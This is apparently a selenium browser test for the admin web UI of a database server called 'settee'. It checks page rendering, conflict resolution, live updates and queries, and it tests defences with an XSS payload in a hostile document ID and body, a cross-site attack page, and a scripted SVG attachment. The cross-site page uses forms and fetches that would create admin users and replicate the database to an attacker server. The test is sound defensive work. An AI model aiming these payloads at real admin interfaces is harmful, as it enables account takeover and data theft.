"""The admin page of `settee serve` in a real browser (Chromium through selenium).

Starts the server on loopback ports with one database, writes documents through the REST API
(a conflict made with new_edits=false, an attachment, a tombstone, a hostile ID and body), then
loads every page: no console errors, what each page must show, the live list, the drawn
revision tree of a conflict and its resolution, and the escaping of hostile text. Writes a
screenshot of each page. Exits non-zero on the first failure, naming it.
"""

import argparse
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.parse
import urllib.request

from selenium import webdriver
from selenium.webdriver.chrome.options import Options
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import WebDriverWait

HOSTILE_ID = '<script>window.hacked=1</script>&"x'
HOSTILE_TEXT = '</pre><script>window.hacked=2</script><img src=x onerror="window.hacked=3">'


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


class Failure(Exception):
    pass


def check(condition, what):
    if not condition:
        raise Failure(what)
    print("ok:", what)


class Server:
    def __init__(self, settee, work):
        self.port, self.admin = free_port(), free_port()
        sync = "function (doc, oldDoc) { channel(doc.channels); if (doc.owner) { access(doc.owner, doc.channels); } }"
        config = {
            "interface": "127.0.0.1:%d" % self.port,
            "adminInterface": "127.0.0.1:%d" % self.admin,
            "log": [],
            "databases": {"todo": {
                "server": os.path.join(work, "data"),
                "sync": sync,
                "users": {"GUEST": {"disabled": True},
                          "alice": {"password": "alice-pw", "admin_channels": ["red"]},
                          "bob": {"password": "bob-pw", "admin_roles": ["editors"]}},
                "roles": {"editors": {"admin_channels": ["blue"]}},
            }},
        }
        path = os.path.join(work, "config.json")
        with open(path, "w") as f:
            json.dump(config, f)
        self.log = open(os.path.join(work, "server.log"), "w")
        self.process = subprocess.Popen([settee, "serve", "--config", path], stdout=self.log, stderr=subprocess.STDOUT)
        for _ in range(400):
            try:
                urllib.request.urlopen(self.url("/"), timeout=1)
                return
            except OSError:
                time.sleep(0.05)
        raise Failure("settee serve did not answer")

    def url(self, path):
        return "http://127.0.0.1:%d%s" % (self.admin, path)

    def request(self, method, path, body=None, content_type="application/json"):
        data = None
        if body is not None:
            data = body if isinstance(body, bytes) else json.dumps(body).encode()
        req = urllib.request.Request(self.url(path), data=data, method=method)
        if data is not None:
            req.add_header("Content-Type", content_type)
        try:
            with urllib.request.urlopen(req, timeout=10) as r:
                text = r.read()
                return r.status, (json.loads(text) if text and r.headers.get_content_type() == "application/json" else text)
        except urllib.error.HTTPError as e:
            return e.code, e.read()

    def stop(self):
        self.process.terminate()
        try:
            self.process.wait(10)
        except subprocess.TimeoutExpired:
            self.process.kill()
        self.log.close()


def seed(server):
    put = server.request
    check(put("PUT", "/todo/plain", {"title": "Buy milk", "channels": ["red"], "owner": "alice"})[0] == 201, "a document is saved")
    status, doc = put("GET", "/todo/plain")
    status, _ = put("PUT", "/todo/plain/note.txt?rev=" + doc["_rev"], b"hello attachment", "text/plain")
    check(status == 201, "an attachment is saved")
    # A conflict: one history, then two branches from it.
    base = {"_id": "conflicted", "_rev": "1-aaaa", "title": "first", "channels": ["red"],
            "_revisions": {"start": 1, "ids": ["aaaa"]}}
    left = {"_id": "conflicted", "_rev": "2-bbbb", "title": "left", "channels": ["red"],
            "_revisions": {"start": 2, "ids": ["bbbb", "aaaa"]}}
    right = {"_id": "conflicted", "_rev": "2-cccc", "title": "right", "channels": ["blue"],
             "_revisions": {"start": 2, "ids": ["cccc", "aaaa"]}}
    check(put("POST", "/todo/_bulk_docs", {"docs": [base, left, right], "new_edits": False})[0] == 201, "a conflict is replicated in")
    check(put("PUT", "/todo/gone", {"x": 1})[0] == 201, "a document to delete")
    status, gone = put("GET", "/todo/gone")
    check(put("DELETE", "/todo/gone?rev=" + gone["_rev"])[0] == 200, "a document is deleted")
    hostile = urllib.parse.quote(HOSTILE_ID, safe="")
    check(put("PUT", "/todo/" + hostile, {"text": HOSTILE_TEXT, "channels": [HOSTILE_TEXT[:20]]})[0] == 201, "a hostile document is saved")


class Browser:
    def __init__(self, screenshots):
        options = Options()
        options.binary_location = shutil.which("chromium") or "/usr/bin/chromium"
        for a in ["--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu", "--window-size=1280,900",
                  "--no-first-run", "--disable-background-networking"]:
            options.add_argument(a)
        options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
        driver_path = shutil.which("chromedriver") or "/usr/bin/chromedriver"
        self.driver = webdriver.Chrome(service=Service(executable_path=driver_path), options=options)
        self.driver.set_page_load_timeout(30)
        self.screenshots = screenshots
        os.makedirs(screenshots, exist_ok=True)

    def load(self, url, name):
        self.driver.get(url)
        WebDriverWait(self.driver, 10).until(lambda d: d.execute_script("return document.readyState") == "complete")
        self.no_console_errors(name)
        self.shot(name)

    def no_console_errors(self, name):
        errors = [e for e in self.driver.get_log("browser") if e.get("level") == "SEVERE"]
        check(not errors, "%s: no console errors %s" % (name, errors))

    def shot(self, name):
        # The whole page, however tall: the window grows to the document's height first.
        height = self.driver.execute_script("return Math.max(document.body.scrollHeight, 600)")
        self.driver.set_window_size(1280, min(height + 40, 4000))
        self.driver.save_screenshot(os.path.join(self.screenshots, name + ".png"))
        self.driver.set_window_size(1280, 900)

    def css(self, selector):
        return self.driver.find_elements(By.CSS_SELECTOR, selector)

    def wait(self, what, condition, seconds=10):
        try:
            WebDriverWait(self.driver, seconds).until(lambda d: condition())
        except Exception:
            raise Failure(what + " (waited %ss)" % seconds)
        print("ok:", what)


ATTACK_PAGE = """<!doctype html><html><body>
<form id="f" method="POST" enctype="text/plain" action="http://127.0.0.1:%(admin)d/todo/_user/">
<input type="hidden" name='{"name": "mallory", "password": "x", "admin_channels": ["*"], "pad": "' value='"}'>
</form>
<script>
fetch("http://127.0.0.1:%(admin)d/todo", {method: "POST", mode: "no-cors", body: '{"_id": "planted", "channels": ["red"]}'});
fetch("http://127.0.0.1:%(admin)d/_replicate", {method: "POST", mode: "no-cors", body: '{"source": "todo", "target": "http://localhost:%(attacker)d/loot"}'});
fetch("http://127.0.0.1:%(admin)d/todo/_user/mallory2", {method: "PUT", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: '{"password": "x", "admin_channels": ["*"]}'});
setTimeout(function () { document.getElementById("f").submit(); }, 200);
</script></body></html>"""


def attack(b, d, server, work):
    """Serves a page from another origin (localhost, another port) that aims requests at the admin
    port, opens it in the browser, and checks that none of them changed anything."""
    import http.server
    import threading
    attacker = free_port()
    page = ATTACK_PAGE % {"admin": server.admin, "attacker": attacker}

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = page.encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self):
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args):
            pass

    httpd = http.server.HTTPServer(("127.0.0.1", attacker), Handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    try:
        d.get("http://localhost:%d/" % attacker)
        # The form submits after 200 ms and navigates to the admin port's answer.
        b.wait("the attacking page's form went", lambda: str(server.admin) in d.current_url, seconds=20)
        time.sleep(1)
        check(server.request("GET", "/todo/_user/mallory")[0] == 404, "a cross-site text/plain form made no user")
        check(server.request("GET", "/todo/_user/mallory2")[0] == 404, "a cross-site fetch made no user")
        check(server.request("GET", "/todo/planted")[0] == 404, "a cross-site fetch planted no document")
        check("forbidden" in d.page_source or "403" in d.page_source or "another site" in d.page_source,
              "the admin port answered the form as forbidden")
    finally:
        httpd.shutdown()


def run(settee, screenshots):
    work = tempfile.mkdtemp(prefix="settee-browser-")
    server = Server(settee, work)
    browser = None
    try:
        seed(server)
        browser = Browser(screenshots)
        b, d = browser, browser.driver

        # The databases.
        b.load(server.url("/_admin/"), "index")
        row = b.css('tr[data-db="todo"]')
        check(len(row) == 1, "the index lists the database")
        check(row[0].find_element(By.CSS_SELECTOR, "td.conflicts").text == "1", "the index counts one conflict")
        check(row[0].find_element(By.CSS_SELECTOR, "td.deleted").text == "1", "the index counts one deletion")

        # The documents, live.
        b.load(server.url("/_admin/db/todo"), "documents")
        ids = [e.get_attribute("data-id") for e in b.css("#documents tbody tr")]
        check(set(ids) == {"plain", "conflicted", HOSTILE_ID}, "the list shows the live documents: %s" % ids)
        conflicted = b.css('#documents tr[data-id="conflicted"] td.conflicts')
        check(conflicted and conflicted[0].text == "1", "the list shows the conflicting leaf")
        plain_channels = [e.text for e in b.css('#documents tr[data-id="plain"] td.channels a')]
        check(plain_channels == ["red"], "the list shows a document's channels")
        hostile_link = [e for e in b.css("#documents td.id a") if e.text == HOSTILE_ID]
        check(len(hostile_link) == 1, "a hostile ID shows as text in the list")
        check(d.execute_script("return window.hacked === undefined"), "no script from a document ran")
        b.wait("the live list connects", lambda: "on" in b.css("#live-status")[0].text)
        d.execute_script("window.__notReloaded = true")
        check(server.request("PUT", "/todo/arrived-live", {"channels": ["red"], "n": 1})[0] == 201, "a document is written through the REST API")
        b.wait("the new document appears in the open list", lambda: len(b.css('#documents tr[data-id="arrived-live"]')) == 1)
        check(d.execute_script("return window.__notReloaded === true"), "the page was not reloaded")
        b.shot("documents-live")
        b.no_console_errors("documents (live)")

        # Filters and the prefix search, read without JavaScript's help.
        b.load(server.url("/_admin/db/todo?conflicts=1"), "documents-conflicts")
        check([e.get_attribute("data-id") for e in b.css("#documents tbody tr")] == ["conflicted"], "only conflicts")
        b.load(server.url("/_admin/db/todo?deleted=1"), "documents-deleted")
        check([e.get_attribute("data-id") for e in b.css("#documents tbody tr")] == ["gone"], "only deleted")
        b.load(server.url("/_admin/db/todo?prefix=pla"), "documents-prefix")
        check([e.get_attribute("data-id") for e in b.css("#documents tbody tr")] == ["plain"], "prefix search")

        # The conflicted document: two leaves drawn, the winner marked.
        status, current = server.request("GET", "/todo/conflicted")
        winner = current["_rev"]
        other = "2-bbbb" if winner == "2-cccc" else "2-cccc"
        b.load(server.url("/_admin/db/todo/doc/conflicted"), "document-conflicted")
        leaves = b.css("#revtree g.rev.leaf")
        check(len(leaves) == 2, "the tree draws two leaves")
        winners = b.css("#revtree g.rev.winner")
        check(len(winners) == 1 and winners[0].get_attribute("data-rev") == winner, "the tree marks the winner %s" % winner)
        conflicts = b.css("#revtree g.rev.conflict")
        check(len(conflicts) == 1 and conflicts[0].get_attribute("data-rev") == other, "the other leaf is drawn as the conflict")
        check(len(b.css("#revtree g.rev")) == 3 and len(b.css("#revtree path.edge")) == 2, "three revisions, two edges")
        check(len(b.css("#legend li")) == 5, "the tree has a legend")
        check(b.css("#channels a")[0].text in ("red", "blue"), "the document page shows the channels")
        # Choosing a revision shows its body.
        d.find_element(By.CSS_SELECTOR, '#revtree g.rev[data-rev="%s"]' % other).click()
        b.wait("choosing a revision shows its body", lambda: len(b.css("#rev-body")) == 1 and ("left" in b.css("#rev-body")[0].text or "right" in b.css("#rev-body")[0].text))
        b.no_console_errors("revision")
        b.shot("document-revision")
        # Choosing the other leaf resolves the conflict.
        d.get(server.url("/_admin/db/todo/doc/conflicted"))
        d.find_element(By.CSS_SELECTOR, 'form.resolve button[data-rev="%s"]' % other).click()
        b.wait("the resolution comes back to the document", lambda: len(b.css("#revtree")) == 1 and len(b.css("#resolve")) == 0)
        b.no_console_errors("resolved")
        b.shot("document-resolved")
        status, after = server.request("GET", "/todo/conflicted?conflicts=true")
        check(after["_rev"].startswith("3-") and "_conflicts" not in after, "the conflict is resolved: %s" % after.get("_rev"))
        check(after["title"] == ("left" if other == "2-bbbb" else "right"), "the chosen leaf's body won")
        new_winner = b.css("#revtree g.rev.winner")
        check(len(new_winner) == 1 and new_winner[0].get_attribute("data-rev") == after["_rev"], "the page draws the new winner")
        check(len(b.css("#revtree g.rev.deleted")) == 1, "the losing leaf got a tombstone")

        # The document with an attachment.
        b.load(server.url("/_admin/db/todo/doc/plain"), "document-attachment")
        cells = b.css("#attachments td")
        check(cells and cells[0].text == "note.txt" and cells[1].text == "text/plain", "the attachment is listed")
        link = b.css("#attachments a")[0].get_attribute("href")
        with urllib.request.urlopen(link, timeout=10) as r:
            check(r.read() == b"hello attachment", "its download link serves it")
        grants = [r.text for r in b.css("#access tbody tr:not(.none)")]
        check(any("alice" in g and "red" in g for g in grants), "the page shows the document's grant to alice")

        # A hostile ID and body render as text.
        b.load(server.url("/_admin/db/todo/doc/" + urllib.parse.quote(HOSTILE_ID, safe="")), "document-hostile")
        check(b.css("h1.doc-id")[0].text == HOSTILE_ID, "the hostile ID is the page's heading, as text")
        # As JSON: the body's quotes come escaped.
        check(json.dumps(HOSTILE_TEXT) in b.css("#current-body")[0].text, "the hostile body shows as text")
        check(d.execute_script("return window.hacked === undefined"), "nothing in the document ran")
        check(not b.css("#current-body img") and not b.css("main script"), "no element came from the document")

        # Users and channels.
        b.load(server.url("/_admin/db/todo/users"), "users")
        alice = [e.text for e in b.css('#users tr[data-user="alice"] td.channels a')]
        check("red" in alice and "!" in alice, "alice's computed channels: %s" % alice)
        bob = [e.text for e in b.css('#users tr[data-user="bob"] td.channels a')]
        check("blue" in bob, "bob reads his role's channel: %s" % bob)
        check(len(b.css('#roles tr[data-role="editors"]')) == 1, "the roles are listed")
        b.load(server.url("/_admin/db/todo/channels/red"), "channel")
        red = [e.get_attribute("data-id") for e in b.css("#channel-docs tbody tr")]
        check("plain" in red and "arrived-live" in red, "the channel lists its documents: %s" % red)

        # The sync function and its preview.
        b.load(server.url("/_admin/db/todo/sync"), "sync")
        check("access(doc.owner" in b.css("#sync-source")[0].text, "the configured sync function is shown")
        d.find_element(By.CSS_SELECTOR, '#preview input[name="doc"]').send_keys("plain")
        d.find_element(By.CSS_SELECTOR, "#preview button").click()
        b.wait("the preview answers", lambda: len(b.css("#preview-result")) == 1)
        check([e.text for e in b.css("#preview-result ul.channels li")] == ["red"], "the preview gives the document's channels")
        check(any("alice" in r.text for r in b.css("#preview-result table.grants tbody tr")), "and its grant")
        b.no_console_errors("sync preview")
        b.shot("sync-preview")
        status, plain = server.request("GET", "/todo/plain")
        check(plain["_rev"].startswith("2-"), "the preview saved nothing")

        # The Queries tab: an index made over HTTP is listed; a Mango query shows its plan and documents.
        status, _ = server.request("POST", "/todo/_index", {"index": {"fields": ["title"]}, "ddoc": "ui", "name": "by-title"})
        check(status == 200, "a Mango index is made")
        b.load(server.url("/_admin/db/todo/query"), "query")
        check(any("by-title" in r.text for r in b.css("#indexes tbody tr")), "the Queries tab lists the index")
        box = d.find_element(By.CSS_SELECTOR, '#query textarea[name="query"]')
        box.clear()
        box.send_keys('{"selector": {"title": {"$gt": "A"}}, "sort": ["title"]}')
        d.find_element(By.CSS_SELECTOR, "#query button").click()
        b.wait("the query answers", lambda: len(b.css("#query-result")) == 1)
        check("SCAN INDEX _design/ui/by-title" in b.css("#query-plan")[0].text, "the plan names the index")
        check(any("plain" in r.text for r in b.css("#query-docs tbody tr")), "the matching document is shown")
        b.no_console_errors("query")
        b.shot("query")

        # A form without the token is refused.
        status, _ = server.request("POST", "/_admin/db/todo/doc/conflicted/resolve", b"winner=2-bbbb", "application/x-www-form-urlencoded")
        check(status == 403, "a resolution without the form token is refused")

        # A page of another site aimed at the admin port drives nothing: a text/plain form
        # carrying JSON, no-cors fetches, a replication to its own server.
        attack(b, d, server, work)
        # An attachment that would run script on the admin origin is sandboxed or downloaded.
        svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/todo/_user/svg", {method: "PUT", headers: {"Content-Type": "application/json"}, body: JSON.stringify({password: "x", admin_channels: ["*"]})})</script></svg>'
        status, plain = server.request("GET", "/todo/plain")
        status, _ = server.request("PUT", "/todo/plain/evil.svg?rev=" + plain["_rev"], svg, "image/svg+xml")
        check(status == 201, "an SVG with a script is attached")
        try:
            d.get(server.url("/todo/plain/evil.svg"))
        except Exception:
            pass   # a download instead of a page
        time.sleep(1)
        check(server.request("GET", "/todo/_user/svg")[0] == 404, "the attachment's script did not run on the admin origin")
        print("browser-test: every check passed; screenshots in", screenshots)
    finally:
        if browser:
            browser.driver.quit()
        server.stop()
        shutil.rmtree(work, ignore_errors=True)


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--settee", required=True)
    p.add_argument("--screenshots", required=True)
    a = p.parse_args()
    try:
        run(a.settee, a.screenshots)
    except Failure as e:
        print("browser-test: FAILED:", e, file=sys.stderr)
        sys.exit(1)


if __name__ == "__main__":
    main()
